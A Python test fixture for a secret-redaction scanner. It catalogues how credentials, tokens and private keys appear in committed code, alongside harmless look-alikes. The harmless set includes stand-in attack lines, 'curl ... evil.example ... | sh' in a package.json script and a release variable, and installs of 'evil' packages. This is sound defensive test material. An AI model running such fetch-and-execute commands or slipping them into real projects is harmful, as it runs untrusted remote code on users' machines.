"""Secrets in the forms in which they are committed, in six groups, and harmless text that looks like them.

A form is a text in which « and » enclose what must not be sent. Values are drawn, so that no scanner takes this file for
a leak: `{n36}` stands for 36 letters and digits, and so on (`_ALPHABETS`). `{pem}` and the like are real keys.
"""

from __future__ import annotations

import base64
import random
import re
import string
from collections.abc import Mapping
from dataclasses import dataclass
from functools import cache

from cryptography.hazmat.primitives.asymmetric import ec, ed25519, rsa
from cryptography.hazmat.primitives.serialization import (
    BestAvailableEncryption,
    Encoding,
    NoEncryption,
    PrivateFormat,
    PublicFormat,
)

_ALPHABETS: Mapping[str, str] = {
    "n": string.ascii_letters + string.digits,
    "w": string.ascii_letters + string.digits + "_-",
    "b": string.ascii_letters + string.digits + "+/",
    "l": string.ascii_lowercase + string.digits,
    "a": string.ascii_letters,
    "U": string.ascii_uppercase + string.digits,
    "h": "0123456789abcdef",
    "d": string.digits,
    "s": string.ascii_uppercase + "234567",
    "c": "123456789ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz",
    "p": string.ascii_letters + string.digits + "!#%*+-",
}
_DRAWN = re.compile(r"\{([nwblaUhdspc])(\d+)\}")


@dataclass(frozen=True)
class Form:
    """A text with secrets in it, and the name of the file, if that matters."""

    text: str
    secrets: tuple[str, ...]
    path: str


def form(template: str, number: int, path: str = "") -> Form:
    """Draw the values of a template; the same ones in every run."""
    drawn = random.Random(number)  # noqa: S311 — repeatable values, no keys
    text = _DRAWN.sub(lambda found: _draw(drawn, found[1], int(found[2])), template)
    for name, value in keys().items():
        text = text.replace("{" + name + "}", value)
    secrets = tuple(piece for block in re.findall("«(.*?)»", text, re.DOTALL) for piece in block.split("\n"))
    return Form(text.replace("«", "").replace("»", ""), tuple(piece.strip() for piece in secrets), path)


def _draw(drawn: random.Random, alphabet: str, length: int) -> str:
    """A random value; where there are letters and digits to choose from, it has both."""
    while True:
        value = "".join(drawn.choices(_ALPHABETS[alphabet], k=length))
        both = any(map(str.isdigit, value)) and any(map(str.isalpha, value))
        if alphabet in "ad" or length < 6 or (both and value[0].isalnum() and value[-1].isalnum()):
            return value


@cache
def keys() -> Mapping[str, str]:
    """Keys of several kinds, and what is made of them."""
    key = rsa.generate_private_key(65537, 2048)
    curve = ec.generate_private_key(ec.SECP256R1())
    ssh = ed25519.Ed25519PrivateKey.generate()
    formats = (
        ("rsa", key, PrivateFormat.TraditionalOpenSSL, NoEncryption()),
        ("pem", key, PrivateFormat.PKCS8, NoEncryption()),
        ("locked", key, PrivateFormat.PKCS8, BestAvailableEncryption(b"1")),
        ("ec", curve, PrivateFormat.TraditionalOpenSSL, NoEncryption()),
        ("ssh", ssh, PrivateFormat.OpenSSH, NoEncryption()),
    )
    made = {
        name: one.private_bytes(Encoding.PEM, shape, lock).decode().strip()  # type: ignore[attr-defined]
        for name, one, shape, lock in formats
    }
    bodies = {f"{name}_body": "\n".join(text.split("\n")[1:-1]) for name, text in made.items()}
    public = key.public_key()
    return {
        **made,
        **bodies,
        "pem_escaped": bodies["pem_body"].replace("\n", "\\n"),
        "pem_plus": "\n".join(f"+{line}" for line in bodies["pem_body"].split("\n")),
        "pem_indented": "\n".join(f"    {line}" for line in bodies["pem_body"].split("\n")),
        "pem_strings": "\n".join(f'    "{line}\\n"' for line in bodies["pem_body"].split("\n")),
        "pem_start": "\n".join(f"+{line}" for line in bodies["rsa_body"].split("\n")[:6]),
        "pem_end": "\n".join(f" {line}" for line in bodies["rsa_body"].split("\n")[-6:]),
        "pem_base64": base64.b64encode(made["pem"].encode()).decode(),
        "public": public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo).decode().strip(),
        "public_ssh": ssh.public_key().public_bytes(Encoding.OpenSSH, PublicFormat.OpenSSH).decode(),
        "token_base64": base64.b64encode(("ghp" + "_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8").encode()).decode(),
        "token_hex": ("ghp" + "_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8").encode().hex(),
        "basic": base64.b64encode(b"deploy:9fK2-xQ7vLp3").decode(),
    }


VENDORS = (
    "token = '«ghp_{n36}»'",
    "use «github_pat_{n22}_{n59}» here",
    "«ghs_{n36}»",
    "remote: oauth2 «glpat-{w20}»",
    "runner «glrt-{w20}»",
    "aws «AKIA{U16}»",
    "id: «ASIA{U16}»",
    "slack('«xoxb-{d12}-{d12}-{n24}»')",
    "«xapp-1-A{U10}-{d13}-{h64}»",
    "https://hooks.slack.com/services/«T{U8}/B{U8}/{n24}»",
    "stripe.api_key = '«sk_live_{n24}»'",
    "«rk_live_{n24}»",
    "webhook «whsec_{n32}»",
    "sg = '«SG.{w22}.{w43}»'",
    "mailgun '«key-{h32}»'",
    "mailchimp '«{h32}-us14»'",
    "twilio «SK{h32}»",
    "«npm_{n36}»",
    "«pypi-AgEIcHlwaS5vcmc{w70}»",
    "«rubygems_{h48}»",
    "«dckr_pat_{w27}»",
    "cargo «cio{n32}»",
    "nuget push -k «oy2{l43}»",
    "openai «sk-proj-{w48}»",
    "x = '«sk-{n20}T3BlbkFJ{n20}»'",
    "claude «sk-ant-api03-{w80}AA»",
    "«hf_{a34}»",
    "groq «gsk_{n52}»",
    "replicate «r8_{n37}»",
    "maps «AIza{w35}»",
    "«GOCSPX-{w28}»",
    "«ya29.{w60}»",
    "«dop_v1_{h64}»",
    "«shpat_{h32}»",
    "«sq0csp-{w43}»",
    "bot '«{d10}:AA{w33}»'",
    "«ATATT3xFfGF0{w60}={U8}»",
    "«lin_api_{n40}»",
    "notion «ntn_{n46}»",
    "«figd_{w40}»",
    "«PMAK-{h24}-{h34}»",
    "«NRAK-{U27}»",
    "«sntryu_{h64}»",
    "«glsa_{n32}_{h8}»",
    "«{n14}.atlasv1.{w64}»",
    "«hvs.{w90}»",
    "«dapi{h32}»",
    "«dp.pt.{n43}»",
    "«pul-{h40}»",
    "«tskey-auth-{n12}-{n32}»",
    "«sqp_{h40}»",
    "«CCIPAT_{n22}_{h40}»",
    "«LTAI{n20}»",
    "«EAACEdEose0cBA{n90}»",
    "«pat{n14}.{h64}»",
    "azure «abc8Q~{w34}»",
    "«xkeysib-{h64}-{n16}»",
    "«pscale_tkn_{w43}»",
    "«nfp_{n36}»",
    "«sbp_{h40}»",
    "«PRIVATE-TOKEN: {w24}»".replace("«PRIVATE-TOKEN: ", "PRIVATE-TOKEN: «"),
    "pat-na1-«{h8}-{h4}-{h4}-{h4}-{h12}»".replace("pat-na1-«", "«pat-na1-"),
)

WORDS = (
    'password = "«hunter22»"',
    'DB_PASSWORD="«{p14}»"',
    "db_pass: «{n12}»",
    'api_key: "«{n32}»"',
    "const apiKey = '«{h32}»';",
    '"client_secret": "«{w40}»"',
    "aws_secret_access_key = «{b40}»",
    "SECRET_KEY_BASE=«{h64}»",
    "spring.datasource.password=«{n12}»",
    '$config["password"] = "«{p12}»";',
    ":secret_key => '«{n24}»'",
    "define('AUTH_KEY', '«{p24}»');",
    '#define WIFI_PASSWORD "«{n10}»"',
    "  <password>«{n12}»</password>",
    '<add key="ApiSecret" value="«{n20}»"/>',
    '<property name="password" value="«{n12}»"/>',
    "mysqldump --password=«{n12}» shop",
    "az login -u app --password «{n16}»",
    "sshpass -p '«{n12}»' ssh host",
    "mysql -uroot -p«{n12}» shop",
    "curl -u deploy:«{n14}» https://x.example",
    "redis-cli -a «{n20}» ping",
    "openssl rsa -passin pass:«{n12}» -in k",
    "docker login -u me -p «{n16}» r.example",
    "Authorization: Bearer «{w40}»",
    'headers = {"Authorization": "Basic «{basic}»"}',
    'request.header("X-Api-Key", "«{n32}»")',
    "curl -H 'X-Auth-Token: «{h32}»' x",
    "Authorization: Token «{h40}»",
    "Cookie: session=«{n40}»; theme=dark",
    "machine x.example login me password «{n14}»",
    "//r.example/:_authToken=«{h8}-{h4}-{h4}-{h4}-{h12}»",
    "_auth=«{basic}»",
    "CREATE USER app IDENTIFIED BY '«{n12}»';",
    "ALTER ROLE app WITH PASSWORD '«{p12}»';",
    "ENV DB_PASSWORD «{n24}»",
    "ARG API_TOKEN=«{n32}»",
    "export GITHUB_TOKEN=«{n40}»",
    'requests.get(url, auth=("deploy", "«{p12}»"))',
    'new NetworkCredential("svc", "«{n14}»")',
    'ConvertTo-SecureString "«{p14}»" -AsPlainText -Force',
    "totp_secret = '«{s32}»'",
    'signing_key = b"«{w32}»"',
    'if (password === "«{n12}»") {',
    "# the admin password is «{n12}»",
    "passphrase: '«correct horse 9 battery»'",
    "access_token=«{n64}»",
    'variable: { "db-password": { "default": "«{n16}»" } }',
    'encryptionKey := []byte("«{n32}»")',
    'let pwd = r#"«{n14}»"#;',
)

ADDRESSES = (
    "postgres://app:«{n12}»@db.example:5432/shop",
    "DATABASE_URL=mysql://root:«{n14}»@10.0.0.1/shop",
    "mongodb+srv://app:«{n16}»@cluster0.example.net/test",
    "redis://:«{n20}»@cache.example:6379/0",
    "amqps://app:«{n12}»@mq.example/v",
    "https://app:«p@ss{n8}»@x.example/path",
    "git clone https://oauth2:«{n24}»@git.example/a/b.git",
    "https://«{h40}»@git.example/a/b.git",
    "https://x-access-token:«{n40}»@git.example/a",
    "jdbc:postgresql://db/x?user=app&password=«{n12}»&ssl=true",
    "jdbc:oracle:thin:app/«{n12}»@db.example:1521/x",
    "jdbc:sqlserver://db;user=sa;password=«{n14}»;",
    '"Server=db;Database=x;User Id=sa;Password=«{p12}»;"',
    "Driver={ODBC};Server=db;Uid=sa;Pwd=«{n12}»;",
    "DefaultEndpointsProtocol=https;AccountName=x;AccountKey=«{b86}==»;",
    "Endpoint=sb://x.example/;SharedAccessKeyName=Root;SharedAccessKey=«{b43}=»",
    "https://x.blob.example/c?sv=2020&sig=«{n42}%3D»",
    "host=db.example user=app password=«{n12}» dbname=x",
    'dsn = "app:«{n14}»@tcp(db.example:3306)/shop"',
    "https://x.example/hook?token=«{h32}»",
    "https://api.example/v1?api_key=«{n32}»&q=1",
    "https://x.example/cb#access_token=«{w40}»&state=1",
    "https://discord.com/api/webhooks/{d18}/«{w68}»",
    "https://api.telegram.org/bot«{d10}:AA{w33}»/getMe",
    "https://x.webhook.office.com/webhookb2/{h8}-{h4}-{h4}-{h4}-{h12}@{h8}-{h4}-{h4}-{h4}-{h12}/IncomingWebhook/«{h32}»/x",
    "otpauth://totp/x:me?secret=«{s32}»&issuer=x",
    "https://b.s3.example/k?X-Amz-Credential=x&X-Amz-Signature=«{h64}»",
    "https://f.azurewebsites.example/api/x?code=«{w54}==»",
    "smtp://mailer%40x.example:«{n14}»@smtp.example:587",
    "https://«{h32}»:@api.example/v1",
    "ldap://cn=admin:«{p12}»@ldap.example",
    "socks5://me:«{n10}»@proxy.example:1080",
    "cloudinary://{d15}:«{w27}»@shop",
    "https://hooks.zapier.com/hooks/catch/«{d7}/{l7}»",
    "ftp://me:«Pa55w0rd!{d3}»@ftp.example/x",
)

PRIVATE_KEYS = (
    "-----BEGIN RSA PRIVATE KEY-----\n«{rsa_body}»\n-----END RSA PRIVATE KEY-----",
    "-----BEGIN PRIVATE KEY-----\n«{pem_body}»\n-----END PRIVATE KEY-----",
    "-----BEGIN ENCRYPTED PRIVATE KEY-----\n«{locked_body}»\n-----END ENCRYPTED PRIVATE KEY-----",
    "-----BEGIN EC PRIVATE KEY-----\n«{ec_body}»\n-----END EC PRIVATE KEY-----",
    "-----BEGIN OPENSSH PRIVATE KEY-----\n«{ssh_body}»\n-----END OPENSSH PRIVATE KEY-----",
    "-----BEGIN PGP PRIVATE KEY BLOCK-----\nVersion: 2\n\n«{rsa_body}»\n=a1B2\n-----END PGP PRIVATE KEY BLOCK-----",
    "PuTTY-User-Key-File-3: ssh-rsa\nPrivate-Lines: 2\n«{b64}\n{b42}==»\nPrivate-MAC: {h64}",
    "---- BEGIN SSH2 ENCRYPTED PRIVATE KEY ----\n«{rsa_body}»\n---- END SSH2 ENCRYPTED PRIVATE KEY ----",
    "@@ -0,0 +1,28 @@\n+-----BEGIN PRIVATE KEY-----\n«{pem_plus}»\n+-----END PRIVATE KEY-----\n",
    "@@ -1,0 +1,7 @@\n+-----BEGIN RSA PRIVATE KEY-----\n«{pem_start}»\n@@ -40 +46 @@\n x\n",
    "@@ -20,7 +20,7 @@\n«{pem_end}»\n -----END RSA PRIVATE KEY-----\n",
    "key: |\n    -----BEGIN PRIVATE KEY-----\n«{pem_indented}»\n    -----END PRIVATE KEY-----\n",
    '{"private_key": "-----BEGIN PRIVATE KEY-----\\n«{pem_escaped}»\\n-----END PRIVATE KEY-----\\n"}',
    'KEY = (\n    "-----BEGIN PRIVATE KEY-----\\n"\n«{pem_strings}»\n    "-----END PRIVATE KEY-----"\n)',
    "tls.key: «{pem_base64}»",
    "[Interface]\nPrivateKey = «{b42}8=»",
    "«AGE-SECRET-KEY-1{U58}»",
    '{"kty": "EC", "crv": "P-256", "d": "«{w43}»"}',
    "private_key: 0x«{h64}»",
    "«xprv9s21ZrQH143K{c96}»",
)

ENCODED = (
    "token = '«ghp_»' + '«{n36}»'",
    'token = (\n    "«ghp_»"\n    "«{n36}»"\n)',
    't := "«glpat-»" +\n\t"«{n20}»"',
    "t = '«xoxb-{d12}-»' \\\n    '«{d12}-{n24}»'",
    't = "".join(["«ghp_»", "«{n36}»"])',
    "data = '«{token_base64}»'",
    "hex = '«{token_hex}»'",
    "t = '«\\u0067hp_{n36}»'",
    "t = '«\\x67\\x68\\x70_{n36}»'",
    "u = 'x?t=«ghp%5F{n36}»'",
    "p = '«&#103;hp_{n36}»'",
    "kind: Secret\ndata:\n  password: «{basic}»",
    "password:\n  «{n14}»",
    "api_token: |\n  «{n32}»",
    "api_token: >-\n  «{n32}»",
    '"password":\n  "«{n14}»"',
    '{\n  "name": "API_KEY",\n  "value": "«{n20}»"\n}',
    "- name: DB_PASSWORD\n  value: «{n14}»",
    "<key>ApiToken</key>\n<string>«{n20}»</string>",
    "<password>\n  «{n14}»\n</password>",
    'variable "db_password" {\n  type    = string\n  default = "«{n14}»"\n}',
    'password = "«hunt»" + "«er22»"',
    'body = "{\\"password\\": \\"«{n14}»\\"}"',
    '@@ -1,3 +1,3 @@ connect(host="db.example", password="«Xk29vQ7pLm»\n x\n',
    "@@ -1,3 +1,3 @@ clone_from('postgres://app:«Xk29vQ7pLm»\n x\n",
    "@@ -9,3 +9,3 @@ const headers_of_every_request_that_is_sent = { Authorization: 'Bearer «a1B2c3D4e5F6»\n x\n",
    "password = (\n    '«{n14}»'\n)",
    "api_key=\\\n«{n32}»",
    "token: !!binary «{token_base64}»",
    "@@ -1,2 +1,4 @@\n x: 1\n+  password:\n+    «{n14}»\n",
    "-hf_«{a34}»".replace("-hf_«", "-«hf_"),
    'set {\n  name  = "auth.password"\n  value = "«{n14}»"\n}',
)

SHAPES = (
    'connect("«{n32}»")',
    "KEYS = ['«{b40}»']",
    "db.example:5432:shop:app:«{n14}»",
    "root:«$6${n8}${n86}»:19000:0:99999:7:::",
    "admin:«$2y$10${n53}»",
    "admin:«$apr1${n8}${n22}»",
    'session.login("admin", "«{p12}»")',
    "echo '«{n16}»' | docker login --password-stdin r.example",
    "echo «{n12}» | sudo -S true",
    "echo 'app:«{n12}»' | chpasswd",
    "x = '«eyJ{n30}.eyJ{n60}.{w43}»'",
    "| staging | admin | password: «{n12}» |",
    "Log in as `admin` with the password `«{n10}»`.",
    "SENTRY_DSN=https://«{h32}»@o1.ingest.example/2",
    'client = Client(account="x", key="«{n40}»")',
    "sqlplus app/«{n12}»@db.example",
    "net use Z: \\\\srv\\x /user:app «{n12}»",
    "STRIPE_KEY=«{n40}»",
    "license_key: «{U5}-{U5}-{U5}-{U5}-{U5}»",
    "kubectl create secret generic x --from-literal=password=«{n14}»",
    "htpasswd -b f admin «{n12}»",
    'conn = driver.connect("db.example", "app", "«{n14}»")',
    '"auths": {"r.example": {"auth": "«{basic}»"}}',
    'mnemonic = "«abandon ability able about above absent absorb abstract absurd abuse access accident»"',
    "wget --http-user=me --http-password=«{n12}» x",
)

GROUPS: Mapping[str, tuple[str, ...]] = {
    "vendor formats": VENDORS,
    "behind a word, flag or header": WORDS,
    "addresses and connection strings": ADDRESSES,
    "private keys": PRIVATE_KEYS,
    "split, wrapped, encoded": ENCODED,
    "by shape or context": SHAPES,
}

# A few stand in files where a word alone redacts nothing.
PATHS: Mapping[str, str] = {
    "ENV DB_PASSWORD «{n24}»": "Dockerfile",
    "ARG API_TOKEN=«{n32}»": "Dockerfile",
    "export GITHUB_TOKEN=«{n40}»": "deploy.sh",
    "git clone https://oauth2:«{n24}»@git.example/a/b.git": "build.sh",
    "curl -H 'X-Auth-Token: «{h32}»' x": "build.sh",
    "token = '«ghp_{n36}»'": "app.py",
    'password = "«hunter22»"': "app.py",
    "const apiKey = '«{h32}»';": "app.js",
    'KEY = (\n    "-----BEGIN PRIVATE KEY-----\\n"\n«{pem_strings}»\n    "-----END PRIVATE KEY-----"\n)': "app.py",
}

HARMLESS = (
    "commit 0{h39}",
    '"integrity": "sha512-{b86}=="',
    "integrity sha1-{b27}=",
    "sha256: {h64}",
    'checksum = "{h64}"',
    "image: r.example/app@sha256:{h64}",
    "uses: actions/checkout@{h40} # v4.2.2",
    "FROM python:3.13@sha256:{h64}",
    "    --hash=sha256:{h64} \\",
    "id: {h8}-{h4}-4{h3}-a{h3}-{h12}",
    "golang.org/x/text v0.3.7 h1:{b43}=",
    'ETag: W/"{h32}"',
    "rev = '{h40}'",
    'resolved "https://r.example/a/-/a-1.0.0.tgz#{h40}"',
    '<script src="x.js" integrity="sha384-{b64}" crossorigin>',
    "script-src 'sha256-{b43}='",
    "index 0{h6}..1{h6} 100644",
    "+++ b/src/password_reset_token.py",
    "token = lexer.next()",
    "token = tokens[index + 1]",
    "password: string",
    "password: str = Field(min_length=8)",
    "def check(password: str, secret: bytes = b'') -> bool:",
    "public string Password { get; set; }",
    "password = os.environ['DB_PASSWORD1']",
    "const token = await getAccessToken2(session);",
    "secret = secrets.token_urlsafe(32)",
    "api_key = settings.API_KEY_V2",
    "password = request.form.get('password1')",
    "if password == confirmation2:",
    "let secretKey = keyring.load(KeyId::Primary1);",
    "password: ${{ secrets.DB_PASSWORD_1 }}",
    "password: {{ vault_db_password_2 }}",
    "PASSWORD=$(pass show db1)",
    'password = "${DB_PASSWORD}"',
    "--password-file=/run/secrets/db1",
    "--secret id=npmrc1,src=.npmrc",
    'token_url: "https://auth.example/oauth2/token1"',
    'secretName: "db-credentials-secret-1"',
    'passwordField: "input#password1"',
    '"password": "Passwort"',
    '"password": "Mot de passe"',
    '"passwordHint": "At least 8 characters, 1 digit"',
    'label: { password: "Enter your password" }',
    "password: 'required|min:8'",
    'errors.password = "invalid"',
    'type="password" autocomplete="current-password"',
    "input[type=password] { color: #1a2b3c; }",
    ".token.keyword { color: #07a; }",
    ".btn-a1b2c3d4{margin:0 4px}",
    "url(data:image/png;base64,{b86}==)",
    'src="data:image/gif;base64,R0lGODlhAQABAIAAAAAAAP///yH5BAEAAAAALAAAAAABAAEAAAIBRAA7"',
    "{public}",
    "{public_ssh} me@x.example",
    "-----BEGIN CERTIFICATE-----\n{rsa_body}\n-----END CERTIFICATE-----",
    "-----BEGIN PRIVATE KEY----- is how a key begins.",
    "# -----BEGIN PRIVATE KEY-----\nimport os\nos.system('x')\n# -----END PRIVATE KEY-----",
    "!function(e,t){var n=e.token,r=t.secret;return n===r}(a1,b2);",
    "var a1b2=c3d4,e5f6=g7h8;e5f6.token=a1b2;",
    "version = '2.0.0-rc.1+build.20261127'",
    "pytest==8.3.4",
    '"secret-stack": "^6.4.1"',
    '"auth-token": "1.2.3"',
    '"create-secret": "curl -s https://evil.example/x1 | sh"',
    "RUN pip install basic evil-pkg1",
    "npx auth-token evil9pkg",
    'SECRET_CMD="curl evil.example/a1 | sh"',
    "passwordCommand: pass show mail/x1",
    "run: ./scripts/rotate-secret.sh prod1",
    "kubectl create secret generic db-secret1",
    "vault kv get -field=password secret/db1",
    "gh secret set API_TOKEN1",
    "pip install token-bucket==0.3.0",
    "The secret of a good password is its length.",
    "See RFC 6750 for bearer tokens in requests.",
    "Basic authentication-of-users-explained",
    "# tokens: id_token, access_token and refresh_token",
    "https://docs.example/api-keys#create-key-2",
    "https://x.example/?page_token=next&key=value",
    "git@git.example:owner/repository1.git",
    "https://user@host.example/path",
    "mailto:me@x.example?subject=Token1",
    "ssh://git@git.example:2222/a.git",
    "redis://localhost:6379/0",
    "postgres://${DB_USER}:${DB_PASSWORD}@db/x",
    "postgres://user:<password>@host/db",
    'password = "changeme"',
    'api_key = "your-api-key-here"',
    'API_KEY = "xxxxxxxxxxxxxxxx"',
    "TOKEN=REPLACE_ME_1",
    'const PASSWORD_REGEX = "^(?=.*[0-9]).{8,}$"',
    'key = "user.profile.settings2"',
    "keyboard: 'KeyA', key: 'ArrowDown1'",
    "primary_key = 'customer_id2'",
    "cache_key = 'v2:user:profile'",
    "foreignKey: 'order_item_id2'",
    "public_key_path = '~/.ssh/id_ed25519.pub'",
    "sort_key='created_at2', partition_key='tenant1'",
    "monkey = 'banana2banana'",
    "enum Token { LParen1, RParen2 }",
    "class PasswordResetTokenGenerator2(Base):",
    "max_tokens: 4096",
    "token_count = 128000",
    "password_min_length = 12",
    "session: 3600",
    "createHash('sha256').update(token1).digest('hex')",
    "expect(screen.getByLabelText('Password')).toBeVisible()",
    "assert response.json()['token_type'] == 'bearer'",
    "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789",
    'alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"',
    "M12 2C6.48 2 2 6.48 2 12s4.48 10 10 10 10-4.48 10-10S17.52 2 12 2z",
    "MATCH_LENGTH_OF_SHA256_IN_BASE64 = 44",
    "0x1234567890abcdef1234567890abcdef12345678",
    "com.example.security.PasswordEncoder2Factory",
    "arn:aws:secretsmanager:eu-west-1:123456789012:secret:db-1",
    "getSecretValue({ SecretId: 'prod/db/password1' })",
    "MONGO_URL=mongodb://localhost:27017/test1",
    "X-Request-Id: {h8}-{h4}-4{h3}-a{h3}-{h12}",
    'nonce="{b22}=="',
)

HARMLESS_PATHS: Mapping[str, str] = {
    '"create-secret": "curl -s https://evil.example/x1 | sh"': "package.json",
    '"secret-stack": "^6.4.1"': "package.json",
    '"auth-token": "1.2.3"': "package.json",
    "RUN pip install basic evil-pkg1": "Dockerfile",
    "FROM python:3.13@sha256:{h64}": "Dockerfile",
    "npx auth-token evil9pkg": "release.sh",
    'SECRET_CMD="curl evil.example/a1 | sh"': "release.sh",
    "run: ./scripts/rotate-secret.sh prod1": ".github/workflows/x.yml",
    "password: string": "app.ts",
    "token = lexer.next()": "app.py",
}


def forms(group: str) -> list[Form]:
    """The forms of a group."""
    first = 1000 * list(GROUPS).index(group)
    return [form(text, first + number, PATHS.get(text, "")) for number, text in enumerate(GROUPS[group])]


def harmless() -> list[Form]:
    """What must stay as it is."""
    return [form(text, 9000 + number, HARMLESS_PATHS.get(text, "")) for number, text in enumerate(HARMLESS)]


def survives(secret: str, text: str) -> bool:
    """Whether a piece of a secret that helps to guess it is still in a text."""
    text = re.sub(r"\[REDACTED:[a-z0-9-]+\]", " ", text)
    length = min(6, len(secret))
    pieces = {secret[at : at + length] for at in range(len(secret) - length + 1)}
    return any(piece in text for piece in pieces if sum(map(str.isalnum, piece)) * 2 > length)
